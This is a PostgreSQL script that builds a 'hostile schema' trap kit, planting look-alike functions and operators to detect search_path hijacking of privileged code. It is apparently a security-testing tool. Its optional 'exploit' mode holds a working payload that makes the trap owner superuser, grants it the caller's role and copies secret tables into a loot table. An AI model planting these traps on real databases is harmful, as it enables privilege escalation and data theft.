-- Hostile-schema trap kit: plants look-alike functions and operators ("traps") in a schema an
-- attacker may write to, and records every call that reaches one.
--
-- Why: a function that runs with its owner's rights (SECURITY DEFINER), or any code run by a
-- privileged role, must never resolve a function or operator name through a schema an attacker
-- can create objects in. PostgreSQL picks the *best-matching* candidate across the search_path,
-- so even with pg_catalog first, an attacker's exact-match overload (make_interval(secs integer)
-- beside pg_catalog's make_interval(..., secs double precision)) wins an unqualified call.
--
-- Interface (psql: \ir traps.sql, as a superuser; everything lives in schema hostile_kit):
--
--   hostile_kit.plant(target name, functions text[], operators text[]) RETURNS integer
--     Run it as the role that should own the traps (the "attacker"); it needs CREATE on target.
--     For each function name (a pg_catalog function's name) and each overload of it in
--     pg_catalog, creates in target same-named functions whose argument types are an exact
--     match for plausible call sites that pg_catalog would otherwise serve through an implicit
--     cast or a pseudo-type: the overload's own signature (shadowed while pg_catalog comes
--     first on the path, live when it does not), every argument of type T, every pseudo-type
--     argument of type T, and every single argument of type T (arity <= 4), for T in
--     hostile_kit.trap_type. Parameter names and defaults are copied, so named notation
--     (make_interval(secs => 1::integer)) resolves to a trap too; a variadic parameter becomes
--     VARIADIC T[]. For each operator name, creates operators in target on every pair of
--     hostile_kit.trap_type types (and prefix forms) plus every operand pair pg_catalog has for
--     that name. A candidate is planted only when pg_catalog itself accepts a call with those
--     argument types (typed NULLs, or an untyped literal at a string-typed position), so every
--     trap stands for a call that exists; its result type is the type pg_catalog's answer has.
--     Returns the number of traps planted; rows in hostile_kit.trap (one per trap) and
--     hostile_kit.skipped (names or overloads left out, with the reason).
--   hostile_kit.trap_type(type_name)  the substitute types (edit before plant() to change).
--   hostile_kit.max_overloads         names with more pg_catalog overloads than this are
--                                     skipped (reported in hostile_kit.skipped).
--
--   When a trap is called it
--     1. takes the session-level advisory lock (trap id, oid of current_user): a witness that
--        survives the rollback of the (sub)transaction that called it;
--     2. runs the payload of the mode in the setting hostile_kit.mode:
--          'record'  (default) nothing more;
--          'exploit' tries, as current_user, to make the trap's owner superuser, to grant it
--                    membership in current_user, and to copy every relation named in
--                    hostile_kit.secret into hostile_kit.loot; what worked is logged;
--          'raise'   raises SQLSTATE HT001 "hostile trap <signature> fired";
--     3. inserts a row into hostile_kit.trap_log (trap, argument types, current_user,
--        session_user, the setting hostile_kit.path, what the payload gained; everyone may
--        insert), and
--     4. returns what pg_catalog's function or operator returns for the same arguments, so
--        execution goes on and every later call on the path gets its chance to hit a trap.
--
--   hostile_kit.witnessed() RETURNS TABLE (trap_id, role)  the traps this session's witnesses
--     show fired (including in rolled-back subtransactions); hostile_kit.forget_witnesses()
--     releases them (pg_advisory_unlock_all()).
--
--   Aggregates get look-alike aggregates (CREATE AGGREGATE; the state collects the arguments,
--   the final function fires the trap and replays them into pg_catalog's aggregate).
--
--   Not covered (by design, bounded): window functions, ordered-set and variadic aggregates,
--   count(*) (nothing matches it better), functions returning void or an anonymous record, calls
--   that mix two different substitute types with a third mismatched argument, and type names (a
--   look-alike type matters only when the schema comes before pg_catalog).

CREATE SCHEMA IF NOT EXISTS hostile_kit;
GRANT USAGE ON SCHEMA hostile_kit TO PUBLIC;

CREATE TABLE IF NOT EXISTS hostile_kit.trap_type (type_name text PRIMARY KEY);
INSERT INTO hostile_kit.trap_type VALUES
  ('text'), ('character varying'), ('name'), ('integer'), ('bigint'), ('numeric'), ('double precision'),
  ('boolean'), ('jsonb'), ('timestamp with time zone'), ('timestamp without time zone'), ('interval'),
  ('uuid'), ('text[]')
ON CONFLICT DO NOTHING;
GRANT SELECT ON hostile_kit.trap_type TO PUBLIC;

CREATE TABLE IF NOT EXISTS hostile_kit.max_overloads (n integer NOT NULL);
INSERT INTO hostile_kit.max_overloads SELECT 40 WHERE NOT EXISTS (SELECT FROM hostile_kit.max_overloads);
GRANT SELECT ON hostile_kit.max_overloads TO PUBLIC;

CREATE TABLE IF NOT EXISTS hostile_kit.trap (
  id serial PRIMARY KEY,
  schema_name name NOT NULL,
  kind text NOT NULL,                -- 'function' or 'operator'
  name text NOT NULL,                -- function or operator name
  argtypes text NOT NULL,            -- e.g. 'secs integer' / 'jsonb, text'
  signature text,                    -- regprocedure / regoperator text once created
  mimics text,                       -- the pg_catalog function or operator a call would reach
  planted_by name NOT NULL DEFAULT current_user
);
GRANT SELECT, INSERT, UPDATE ON hostile_kit.trap TO PUBLIC;
GRANT USAGE ON SEQUENCE hostile_kit.trap_id_seq TO PUBLIC;

CREATE TABLE IF NOT EXISTS hostile_kit.skipped (schema_name name, name text, reason text);
GRANT SELECT, INSERT ON hostile_kit.skipped TO PUBLIC;

CREATE TABLE IF NOT EXISTS hostile_kit.trap_log (
  at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp(),
  trap_id integer NOT NULL,
  name text, argtypes text, trap_schema name,
  path text,
  current_user_name name, session_user_name name,
  gained text[]
);
GRANT INSERT ON hostile_kit.trap_log TO PUBLIC;

CREATE TABLE IF NOT EXISTS hostile_kit.secret (relation text PRIMARY KEY);
GRANT SELECT ON hostile_kit.secret TO PUBLIC;
CREATE TABLE IF NOT EXISTS hostile_kit.loot (trap_id integer, relation text, item text);
GRANT INSERT ON hostile_kit.loot TO PUBLIC;

-- ---- what a trap does when called ----
CREATE OR REPLACE FUNCTION hostile_kit.sprung(trap_id integer)
RETURNS void
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
#variable_conflict use_variable
DECLARE
  t record;
  mode text := COALESCE(NULLIF(current_setting('hostile_kit.mode', true), ''), 'record');
  me name := current_user;
  gained text[] := '{}';
  rel text;
  n bigint;
BEGIN
  PERFORM pg_try_advisory_lock(sprung.trap_id, (SELECT r.oid FROM pg_roles r WHERE r.rolname = me)::bigint::integer);
  SELECT * INTO t FROM hostile_kit.trap x WHERE x.id = sprung.trap_id;
  IF mode = 'exploit' THEN
    BEGIN
      EXECUTE format('ALTER ROLE %I SUPERUSER', t.planted_by);
      gained := gained || 'made its owner superuser'::text;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF me <> t.planted_by THEN
      BEGIN
        EXECUTE format('GRANT %I TO %I', me, t.planted_by);
        gained := gained || format('granted %s to its owner', me);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END IF;
    FOR rel IN SELECT s.relation FROM hostile_kit.secret s ORDER BY 1 LOOP
      BEGIN
        EXECUTE format('INSERT INTO hostile_kit.loot SELECT %s, %L, to_jsonb(x)::text FROM %s x', sprung.trap_id, rel, rel);
        GET DIAGNOSTICS n = ROW_COUNT;
        gained := gained || format('read %s (%s rows)', rel, n);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
  END IF;
  BEGIN
    INSERT INTO hostile_kit.trap_log (trap_id, name, argtypes, trap_schema, path, current_user_name, session_user_name, gained)
    VALUES (sprung.trap_id, t.name, t.argtypes, t.schema_name, current_setting('hostile_kit.path', true), me, session_user, gained);
  EXCEPTION WHEN OTHERS THEN NULL;  -- e.g. a read-only transaction: the witness lock remains
  END;
  IF mode = 'raise' THEN
    RAISE EXCEPTION 'hostile trap %.%(%) fired', t.schema_name, t.name, t.argtypes USING ERRCODE = 'HT001';
  END IF;
END
$$;
GRANT EXECUTE ON FUNCTION hostile_kit.sprung(integer) TO PUBLIC;

CREATE OR REPLACE FUNCTION hostile_kit.witnessed(OUT trap_id integer, OUT role name)
RETURNS SETOF record
LANGUAGE sql STABLE
SET search_path = pg_catalog, pg_temp
AS $$
  SELECT t.id, r.rolname
    FROM pg_locks l
    JOIN hostile_kit.trap t ON t.id = l.classid::bigint
    LEFT JOIN pg_roles r ON r.oid = l.objid
   WHERE l.locktype = 'advisory' AND l.pid = pg_backend_pid() AND l.objsubid = 2 AND l.granted
     AND l.database = (SELECT d.oid FROM pg_database d WHERE d.datname = current_database())
$$;

CREATE OR REPLACE FUNCTION hostile_kit.forget_witnesses()
RETURNS void
LANGUAGE sql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$ SELECT pg_advisory_unlock_all() $$;

-- ---- probing what pg_catalog would call ----
-- Resolves expr (a call of a pg_catalog function or operator written with typed or untyped
-- NULLs) the way the parser does, through a throwaway view in schema probe_schema; returns the
-- oid of the function or operator chosen and the result type, or NULLs when pg_catalog has no
-- match. (Pinned catalog objects have no pg_depend rows, so the stored query tree is read.)
CREATE OR REPLACE FUNCTION hostile_kit._probe(probe_schema name, expr text,
                                              OUT target oid, OUT is_operator boolean, OUT is_aggregate boolean,
                                              OUT result_type text, OUT retset boolean)
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
#variable_conflict use_variable
DECLARE
  view_name text := format('%I.hostile_kit_probe', probe_schema);
  tree text;
  m text[];
BEGIN
  BEGIN
    EXECUTE format('CREATE VIEW %s AS SELECT %s AS r', view_name, expr);
  EXCEPTION WHEN OTHERS THEN
    RETURN;
  END;
  SELECT rw.ev_action::text INTO tree FROM pg_rewrite rw WHERE rw.ev_class = view_name::regclass;
  SELECT format_type(a.atttypid, NULL) INTO result_type
    FROM pg_attribute a WHERE a.attrelid = view_name::regclass AND a.attname = 'r';
  EXECUTE format('DROP VIEW %s', view_name);
  m := regexp_match(tree, ':targetList \(\{TARGETENTRY :expr \{(FUNCEXPR :funcid|OPEXPR :opno|AGGREF :aggfnoid) (\d+)');
  IF m IS NULL THEN
    result_type := NULL;
    RETURN;
  END IF;
  target := m[2]::oid;
  is_operator := m[1] LIKE 'OPEXPR%';
  is_aggregate := m[1] LIKE 'AGGREF%';
  retset := NOT is_operator AND (SELECT p.proretset FROM pg_proc p WHERE p.oid = target);
END
$$;

CREATE OR REPLACE FUNCTION hostile_kit._is_string_type(type_name text)
RETURNS boolean
LANGUAGE sql STABLE
SET search_path = pg_catalog, pg_temp
AS $$ SELECT type_name IN ('text', 'character varying', 'name') $$;

-- Plants one function trap: name(params) whose call expression probe_call resolves in pg_catalog.
CREATE OR REPLACE FUNCTION hostile_kit._plant_function(target name, fname text, types text[], names text[],
                                                        defaults text[], variadic_last boolean,
                                                        aggregate boolean DEFAULT false)
RETURNS boolean
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
#variable_conflict use_variable
DECLARE
  k integer := COALESCE(array_length(types, 1), 0);
  probe record;
  args text[];
  params text[] := '{}';
  shown text[] := '{}';
  call_args text[] := '{}';
  argtypes text;
  p pg_proc;
  declared text[];
  outs text := '';
  ret text;
  body text;
  trap_id integer;
  i integer;
  used_names text[] := '{}';
  pname text;
  attempt integer;
BEGIN
  argtypes := array_to_string(types, ', ');
  IF variadic_last THEN
    argtypes := regexp_replace(argtypes, '([^,]+)$', 'VARIADIC \1[]');
  END IF;
  IF to_regprocedure(format('%I.%I(%s)', target, fname, regexp_replace(argtypes, 'VARIADIC ', '', 'g'))) IS NOT NULL THEN
    RETURN false;  -- planted already
  END IF;
  -- Probe: first every argument typed, then string-typed arguments as untyped literals (a call
  -- site writing 'literal' where pg_catalog wants, say, text[]).
  FOR attempt IN 1..2 LOOP
    args := '{}';
    FOR i IN 1..k LOOP
      IF variadic_last AND i = k THEN
        args := args || format('VARIADIC NULL::%s[]', types[i]);
      ELSIF attempt = 2 AND hostile_kit._is_string_type(types[i]) THEN
        args := args || 'NULL'::text;
      ELSE
        args := args || format('NULL::%s', types[i]);
      END IF;
    END LOOP;
    probe := hostile_kit._probe(target, format('pg_catalog.%I(%s)', fname, array_to_string(args, ', ')));
    EXIT WHEN probe.target IS NOT NULL;
    IF attempt = 1 AND NOT EXISTS (SELECT FROM unnest(types) WITH ORDINALITY u(t, o)
                                   WHERE hostile_kit._is_string_type(u.t) AND NOT (variadic_last AND u.o = k)) THEN
      EXIT;
    END IF;
  END LOOP;
  IF probe.target IS NULL OR probe.result_type IS NULL OR probe.result_type IN ('void', '"any"', 'internal', 'cstring', 'unknown', 'trigger')
     OR probe.is_operator OR probe.is_aggregate IS DISTINCT FROM aggregate THEN
    RETURN false;
  END IF;
  IF aggregate THEN
    RETURN hostile_kit._plant_aggregate(target, fname, types, probe.target, probe.result_type);
  END IF;
  SELECT * INTO p FROM pg_proc WHERE oid = probe.target;
  declared := (SELECT array_agg(format_type(x, NULL) ORDER BY o) FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY u(x, o));
  IF probe.result_type = 'record' THEN
    IF NOT p.proretset OR p.proallargtypes IS NULL THEN
      RETURN false;  -- an anonymous record: no plausible declaration
    END IF;
    SELECT string_agg(format(', OUT %I %s', p.proargnames[o], format_type(x, NULL)), '' ORDER BY o) INTO outs
      FROM unnest(p.proallargtypes, p.proargmodes) WITH ORDINALITY u(x, md, o) WHERE md IN ('o', 't');
    ret := 'SETOF record';
  ELSIF p.proretset THEN
    ret := 'SETOF ' || probe.result_type;
  ELSE
    ret := probe.result_type;
  END IF;
  FOR i IN 1..k LOOP
    pname := NULLIF(names[i], '');
    IF pname = ANY (used_names) OR (variadic_last AND i = k AND pname IS NULL) THEN
      pname := NULL;
    END IF;
    used_names := used_names || pname;
    shown := shown || ltrim(format('%s%s %s%s', CASE WHEN variadic_last AND i = k THEN 'VARIADIC ' ELSE '' END,
                                   COALESCE(quote_ident(pname), ''), types[i],
                                   CASE WHEN variadic_last AND i = k THEN '[]' ELSE '' END));
    params := params || format('%s%s %s%s%s',
                               CASE WHEN variadic_last AND i = k THEN 'VARIADIC ' ELSE '' END,
                               COALESCE(quote_ident(pname), ''),
                               types[i], CASE WHEN variadic_last AND i = k THEN '[]' ELSE '' END,
                               CASE WHEN defaults[i] IS NOT NULL THEN format(' DEFAULT (%s)::%s', defaults[i], types[i]) ELSE '' END);
    -- pg_catalog's function gets what it declares (an untyped literal's text converts by I/O).
    IF variadic_last AND i = k THEN
      call_args := call_args || CASE
        WHEN p.provariadic = 0 THEN format('$%s::%s', i, declared[LEAST(i, array_length(declared, 1))])
        WHEN p.provariadic = 'pg_catalog."any"'::regtype THEN format('VARIADIC $%s', i)
        ELSE format('VARIADIC $%s::%s', i, declared[array_length(declared, 1)]) END;
    ELSIF i <= COALESCE(array_length(declared, 1), 0)
          AND (SELECT typtype FROM pg_type WHERE oid = p.proargtypes[i - 1]) <> 'p'
          AND NOT (p.provariadic <> 0 AND i >= array_length(declared, 1)) THEN
      call_args := call_args || format('$%s::%s', i, declared[i]);
    ELSE
      call_args := call_args || format('$%s', i);
    END IF;
  END LOOP;
  INSERT INTO hostile_kit.trap (schema_name, kind, name, argtypes, mimics)
  VALUES (target, 'function', fname, array_to_string(shown, ', '), probe.target::regprocedure::text)
  RETURNING id INTO trap_id;
  body := format(E'BEGIN\n  PERFORM hostile_kit.sprung(%s);\n  %s pg_catalog.%I(%s);\nEND',
                 trap_id, CASE WHEN p.proretset THEN 'RETURN QUERY SELECT * FROM' ELSE 'RETURN' END,
                 fname, array_to_string(call_args, ', '));
  BEGIN
    EXECUTE format('CREATE FUNCTION %I.%I(%s%s) RETURNS %s LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS %L',
                   target, fname, array_to_string(params, ', '), outs, ret, body);
  EXCEPTION WHEN OTHERS THEN
    DELETE FROM hostile_kit.trap WHERE id = trap_id;
    INSERT INTO hostile_kit.skipped VALUES (target, format('%s(%s)', fname, argtypes), 'not created: ' || SQLERRM);
    RETURN false;
  END;
  UPDATE hostile_kit.trap SET signature = to_regprocedure(format('%I.%I(%s)', target, fname,
                                                                regexp_replace(argtypes, 'VARIADIC ', '', 'g')))::text
   WHERE id = trap_id;
  RETURN true;
END
$$;

-- Plants one aggregate trap name(types) (probed by _plant_function): the state collects the
-- arguments as JSON, the final function fires the trap and hands them to pg_catalog's aggregate.
CREATE OR REPLACE FUNCTION hostile_kit._plant_aggregate(target name, fname text, types text[], mimics oid, result_type text)
RETURNS boolean
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
#variable_conflict use_variable
DECLARE
  k integer := array_length(types, 1);
  trap_id integer;
  collect text;
  replay text;
BEGIN
  INSERT INTO hostile_kit.trap (schema_name, kind, name, argtypes, mimics)
  VALUES (target, 'aggregate', fname, array_to_string(types, ', '), mimics::regprocedure::text)
  RETURNING id INTO trap_id;
  SELECT string_agg(format('to_jsonb($%s)', o + 1), ', ' ORDER BY o),
         string_agg(CASE WHEN t = 'jsonb' THEN format('x.e -> %s', o - 1)
                         WHEN t LIKE '%[]' THEN format('ARRAY(SELECT jsonb_array_elements_text(x.e -> %s))::%s', o - 1, t)
                         ELSE format('(x.e ->> %s)::%s', o - 1, t) END, ', ' ORDER BY o)
    INTO collect, replay
    FROM unnest(types) WITH ORDINALITY u(t, o);
  BEGIN
    EXECUTE format('CREATE FUNCTION %I.%I(state jsonb, %s) RETURNS jsonb LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS %L',
                   target, 'hostile_agg_' || trap_id || '_state', array_to_string(types, ', '),
                   format(E'BEGIN\n  RETURN COALESCE(state, ''[]'') || jsonb_build_array(jsonb_build_array(%s));\nEND', collect));
    EXECUTE format('CREATE FUNCTION %I.%I(state jsonb) RETURNS %s LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS %L',
                   target, 'hostile_agg_' || trap_id || '_final', result_type,
                   format(E'BEGIN\n  PERFORM hostile_kit.sprung(%s);\n'
                          '  RETURN (SELECT pg_catalog.%I(%s ORDER BY x.o) FROM jsonb_array_elements(COALESCE(state, ''[]'')) WITH ORDINALITY x(e, o));\nEND',
                          trap_id, fname, replay));
    EXECUTE format('CREATE AGGREGATE %I.%I(%s) (SFUNC = %I.%I, STYPE = jsonb, FINALFUNC = %I.%I)',
                   target, fname, array_to_string(types, ', '), target, 'hostile_agg_' || trap_id || '_state',
                   target, 'hostile_agg_' || trap_id || '_final');
  EXCEPTION WHEN OTHERS THEN
    DELETE FROM hostile_kit.trap WHERE id = trap_id;
    INSERT INTO hostile_kit.skipped VALUES (target, format('%s(%s)', fname, array_to_string(types, ', ')), 'not created: ' || SQLERRM);
    RETURN false;
  END;
  UPDATE hostile_kit.trap SET signature = to_regprocedure(format('%I.%I(%s)', target, fname, array_to_string(types, ', ')))::text
   WHERE id = trap_id;
  RETURN true;
END
$$;

-- Plants one operator trap on (left, right); left NULL: a prefix operator.
CREATE OR REPLACE FUNCTION hostile_kit._plant_operator(target name, op text, lefttype text, righttype text)
RETURNS boolean
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
#variable_conflict use_variable
DECLARE
  probe record;
  o pg_operator;
  trap_id integer;
  fname text;
  attempt integer;
  l text;
  r text;
  call text;
BEGIN
  IF to_regoperator(format('%I.%s(%s,%s)', target, op, COALESCE(lefttype, 'NONE'), righttype)) IS NOT NULL THEN
    RETURN false;
  END IF;
  FOR attempt IN 1..2 LOOP
    l := CASE WHEN lefttype IS NULL THEN '' WHEN attempt = 2 AND hostile_kit._is_string_type(lefttype) THEN 'NULL ' ELSE format('NULL::%s ', lefttype) END;
    r := CASE WHEN attempt = 2 AND hostile_kit._is_string_type(righttype) THEN ' NULL' ELSE format(' NULL::%s', righttype) END;
    probe := hostile_kit._probe(target, format('%sOPERATOR(pg_catalog.%s)%s', l, op, r));
    EXIT WHEN probe.target IS NOT NULL
           OR NOT (hostile_kit._is_string_type(lefttype) OR hostile_kit._is_string_type(righttype));
  END LOOP;
  IF probe.target IS NULL OR NOT probe.is_operator OR probe.result_type IS NULL
     OR probe.result_type IN ('void', 'internal', 'cstring', 'unknown', 'record') THEN
    RETURN false;
  END IF;
  SELECT * INTO o FROM pg_operator WHERE oid = probe.target;
  INSERT INTO hostile_kit.trap (schema_name, kind, name, argtypes, mimics)
  VALUES (target, 'operator', op, concat_ws(', ', lefttype, righttype), probe.target::regoperator::text)
  RETURNING id INTO trap_id;
  fname := 'hostile_op_' || trap_id;
  IF lefttype IS NULL THEN
    call := format('OPERATOR(pg_catalog.%s) $1::%s', op, format_type(o.oprright, NULL));
  ELSE
    call := format('$1::%s OPERATOR(pg_catalog.%s) $2::%s', format_type(o.oprleft, NULL), op, format_type(o.oprright, NULL));
  END IF;
  BEGIN
    EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS %L',
                   target, fname, concat_ws(', ', lefttype, righttype), probe.result_type,
                   format(E'BEGIN\n  PERFORM hostile_kit.sprung(%s);\n  RETURN %s;\nEND', trap_id, call));
    EXECUTE format('CREATE OPERATOR %I.%s (%s RIGHTARG = %s, FUNCTION = %I.%I)', target, op,
                   CASE WHEN lefttype IS NULL THEN '' ELSE format('LEFTARG = %s,', lefttype) END, righttype, target, fname);
  EXCEPTION WHEN OTHERS THEN
    DELETE FROM hostile_kit.trap WHERE id = trap_id;
    INSERT INTO hostile_kit.skipped VALUES (target, format('OPERATOR %s(%s, %s)', op, COALESCE(lefttype, 'NONE'), righttype),
                                            'not created: ' || SQLERRM);
    RETURN false;
  END;
  UPDATE hostile_kit.trap SET signature = to_regoperator(format('%I.%s(%s,%s)', target, op, COALESCE(lefttype, 'NONE'), righttype))::text
   WHERE id = trap_id;
  RETURN true;
END
$$;

CREATE OR REPLACE FUNCTION hostile_kit.plant(target name, functions text[], operators text[])
RETURNS integer
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
#variable_conflict use_variable
DECLARE
  fname text;
  op text;
  o record;
  t text;
  u text;
  planted integer := 0;
  tys text[] := ARRAY(SELECT type_name FROM hostile_kit.trap_type ORDER BY type_name);
  cap integer := (SELECT max(n) FROM hostile_kit.max_overloads);
  base text[];
  variant text[];
  variants text[][];
  v integer;
  i integer;
  k integer;
  n_overloads integer;
BEGIN
  FOREACH fname IN ARRAY ARRAY(SELECT DISTINCT x FROM unnest(functions) x ORDER BY 1) LOOP
    SELECT count(*) INTO n_overloads FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = fname;
    IF n_overloads = 0 THEN
      INSERT INTO hostile_kit.skipped VALUES (target, fname, 'no such function in pg_catalog');
      CONTINUE;
    ELSIF n_overloads > cap THEN
      INSERT INTO hostile_kit.skipped VALUES (target, fname, format('%s overloads in pg_catalog (more than %s)', n_overloads, cap));
      CONTINUE;
    END IF;
    FOR o IN
      SELECT p.oid, p.prokind, p.pronargs AS n, p.pronargdefaults AS nd, p.provariadic <> 0 AS is_variadic,
             ARRAY(SELECT CASE WHEN ty.typtype = 'p' THEN NULL ELSE format_type(x, NULL) END
                     FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY u(x, ord) JOIN pg_type ty ON ty.oid = u.x ORDER BY ord) AS types,
             CASE WHEN p.provariadic = 0 OR ty.typtype = 'p' THEN NULL ELSE format_type(p.provariadic, NULL) END AS variadic_elem,
             ARRAY(SELECT COALESCE(nm, '') FROM unnest(COALESCE(p.proargnames, array_fill(''::text, ARRAY[COALESCE(array_length(p.proallargtypes, 1), p.pronargs)])),
                                                 COALESCE(p.proargmodes, array_fill('i'::"char", ARRAY[COALESCE(array_length(p.proallargtypes, 1), p.pronargs)])))
                                                 WITH ORDINALITY u(nm, md, ord) WHERE md IN ('i', 'b', 'v') ORDER BY ord) AS names
        FROM pg_proc p LEFT JOIN pg_type ty ON ty.oid = p.provariadic
       WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = fname
       ORDER BY p.oid
    LOOP
      IF o.prokind NOT IN ('f', 'a') OR (o.prokind = 'a' AND (o.is_variadic OR o.n = 0 OR
                                          (SELECT a.aggkind FROM pg_aggregate a WHERE a.aggfnoid = o.oid) <> 'n')) THEN
        INSERT INTO hostile_kit.skipped VALUES (target, format('%s', o.oid::regprocedure),
                                                CASE WHEN o.prokind = 'w' THEN 'window function' WHEN o.prokind = 'p' THEN 'procedure'
                                                     WHEN o.n = 0 THEN 'aggregate without arguments (count(*): nothing matches better)'
                                                     ELSE 'ordered-set or variadic aggregate' END);
        CONTINUE;
      END IF;
      k := o.n;
      base := o.types;
      IF o.is_variadic THEN
        base[k] := o.variadic_elem;  -- the element type; NULL for VARIADIC "any"
      END IF;
      -- The variants, as rows of a 2-D array (each k wide).
      variants := NULL;
      IF k = 0 THEN
        planted := planted + hostile_kit._plant_function(target, fname, '{}', '{}', '{}', false)::integer;
        CONTINUE;
      END IF;
      IF array_position(base, NULL) IS NULL THEN
        variants := ARRAY[base];
      END IF;
      FOREACH t IN ARRAY tys LOOP
        variant := ARRAY(SELECT COALESCE(b, t) FROM unnest(base) WITH ORDINALITY u(b, ord) ORDER BY ord);
        variants := COALESCE(variants || ARRAY[variant], ARRAY[variant]);
        variant := array_fill(t, ARRAY[k]);
        variants := variants || ARRAY[variant];
        IF k <= 4 THEN
          FOR i IN 1..k LOOP
            variant := ARRAY(SELECT COALESCE(b, t) FROM unnest(base) WITH ORDINALITY u(b, ord) ORDER BY ord);
            variant[i] := t;
            variants := variants || ARRAY[variant];
            -- the other pseudo-type arguments as text, the usual partner of a literal
            variant := ARRAY(SELECT COALESCE(b, 'text') FROM unnest(base) WITH ORDINALITY u(b, ord) ORDER BY ord);
            variant[i] := t;
            variants := variants || ARRAY[variant];
          END LOOP;
        END IF;
      END LOOP;
      FOR v IN 1..array_length(variants, 1) LOOP
        variant := variants[v:v][1:k];
        variant := ARRAY(SELECT x FROM unnest(variant) x);
        planted := planted + hostile_kit._plant_function(
          target, fname, variant, o.names,
          ARRAY(SELECT CASE WHEN ord > k - o.nd THEN pg_get_function_arg_default(o.oid, ord::integer) END
                  FROM generate_series(1, k) ord ORDER BY ord),
          o.is_variadic, o.prokind = 'a')::integer;
      END LOOP;
    END LOOP;
  END LOOP;

  FOREACH op IN ARRAY ARRAY(SELECT DISTINCT x FROM unnest(operators) x ORDER BY 1) LOOP
    IF NOT EXISTS (SELECT FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprname = op) THEN
      INSERT INTO hostile_kit.skipped VALUES (target, 'OPERATOR ' || op, 'no such operator in pg_catalog');
      CONTINUE;
    END IF;
    FOREACH t IN ARRAY tys LOOP
      planted := planted + hostile_kit._plant_operator(target, op, NULL, t)::integer;
      FOREACH u IN ARRAY tys LOOP
        planted := planted + hostile_kit._plant_operator(target, op, t, u)::integer;
      END LOOP;
    END LOOP;
    -- pg_catalog's own operand pairs: shadowed while pg_catalog comes first on the path.
    FOR o IN
      SELECT CASE WHEN x.oprleft = 0 THEN NULL ELSE format_type(x.oprleft, NULL) END AS l, format_type(x.oprright, NULL) AS r
        FROM pg_operator x
        LEFT JOIN pg_type lt ON lt.oid = x.oprleft JOIN pg_type rt ON rt.oid = x.oprright
       WHERE x.oprnamespace = 'pg_catalog'::regnamespace AND x.oprname = op
         AND COALESCE(lt.typtype, 'b') <> 'p' AND rt.typtype <> 'p'
       ORDER BY x.oid
    LOOP
      planted := planted + hostile_kit._plant_operator(target, op, o.l, o.r)::integer;
    END LOOP;
  END LOOP;
  RETURN planted;
END
$$;
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA hostile_kit TO PUBLIC;
